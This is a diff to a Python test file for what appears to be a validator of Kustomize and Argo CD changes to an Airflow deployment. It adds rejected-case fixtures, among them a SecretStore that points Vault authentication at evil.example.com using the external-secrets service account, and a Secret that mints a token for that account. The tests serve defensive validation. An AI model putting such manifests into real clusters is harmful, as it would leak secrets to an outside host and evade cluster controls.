@@ -49,6 +49,29 @@ spec:
   target: {name: airflow-metadata}
   dataFrom: [{extract: {key: elsewhere}}]
 """
+LISTED = "resources: [own.yaml]\n"
+ACCOUNT = "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: airflow-external}\n"
+SECOND_STORE = """apiVersion: external-secrets.io/v1
+kind: SecretStore
+metadata: {name: mine, namespace: airflow}
+spec:
+  provider:
+    vault:
+      server: https://evil.example.com
+      auth:
+        kubernetes:
+          mountPath: kubernetes
+          role: any
+          serviceAccountRef: {name: airflow-external-secrets, audiences: [vault]}
+"""
+TOKEN = """apiVersion: v1
+kind: Secret
+metadata:
+  name: token
+  namespace: airflow
+  annotations: {kubernetes.io/service-account.name: airflow-external-secrets}
+type: kubernetes.io/service-account-token
+"""
 Files = dict[str, str]
 Edit = Callable[[Path], Files]
 
@@ -314,6 +337,10 @@ CONFLICTS: dict[str, tuple[Edit, str]] = {
         _kustomize("labels", [{"pairs": {"app.kubernetes.io/managed-by": "x"}}]),
         "labels[0].pairs",
     ),
+    "objects that are not applied": (
+        _kustomize("commonAnnotations", {"config.kubernetes.io/local-config": "true"}),
+        "commonAnnotations",
+    ),
     "annotations of Argo CD": (
         _kustomize("commonAnnotations", {"argocd.argoproj.io/hook": "Skip"}),
         "commonAnnotations",
@@ -347,6 +374,40 @@ REFUSED: dict[str, tuple[Edit, str]] = {
     "second author of a Secret": (
         _kustomize("resources.+", "mine.yaml", mine_yaml=RIVAL),
         "mine.yaml",
+    ),
+    "host keys by a new name": (
+        _both(
+            _kustomize("resources.+", "own"),
+            _file("apps/airflow/own/kustomization.yaml", f"namePrefix: airflow-\n{LISTED}"),
+            _file("apps/airflow/own/own.yaml", OWN.replace("own", "config")),
+        ),
+        "own.yaml: metadata.name",
+    ),
+    "generated host keys": (
+        _both(
+            _kustomize("resources.+", "own"),
+            _file(
+                "apps/airflow/own/kustomization.yaml",
+                "nameSuffix: -config\nconfigMapGenerator: [{name: airflow, literals: [a=b]}]\n",
+            ),
+        ),
+        "own/kustomization.yaml: metadata.name",
+    ),
+    "the store's account by a new name": (
+        _both(
+            _kustomize("resources.+", "own"),
+            _file("apps/airflow/own/kustomization.yaml", f"nameSuffix: -secrets\n{LISTED}"),
+            _file("apps/airflow/own/own.yaml", ACCOUNT),
+        ),
+        "own.yaml: metadata.name",
+    ),
+    "another store with the store's account": (
+        _kustomize("resources.+", "mine.yaml", mine_yaml=SECOND_STORE),
+        "mine.yaml: spec.provider.vault.auth.kubernetes.serviceAccountRef.name",
+    ),
+    "a token of the store's account": (
+        _kustomize("resources.+", "mine.yaml", mine_yaml=TOKEN),
+        'mine.yaml: metadata.annotations."kubernetes.io/service-account.name"',
     ),
     "git-sync without verification": (
         _application(
@@ -397,6 +458,13 @@ HARMLESS: dict[str, Edit] = {
         _kustomize("resources.+", "own"),
         _file("apps/airflow/own/kustomization.yaml", "namePrefix: x-\nresources: [own.yaml]\n"),
         _file("apps/airflow/own/own.yaml", OWN),
+    ),
+    "own folder with a generator": _both(
+        _kustomize("resources.+", "own"),
+        _file(
+            "apps/airflow/own/kustomization.yaml",
+            "namePrefix: x-\nconfigMapGenerator: [{name: config, literals: [a=b]}]\n",
+        ),
     ),
     "patch of an own manifest": lambda folder: {
         KUSTOMIZATION: (folder / KUSTOMIZATION).read_text() + PATCHES,
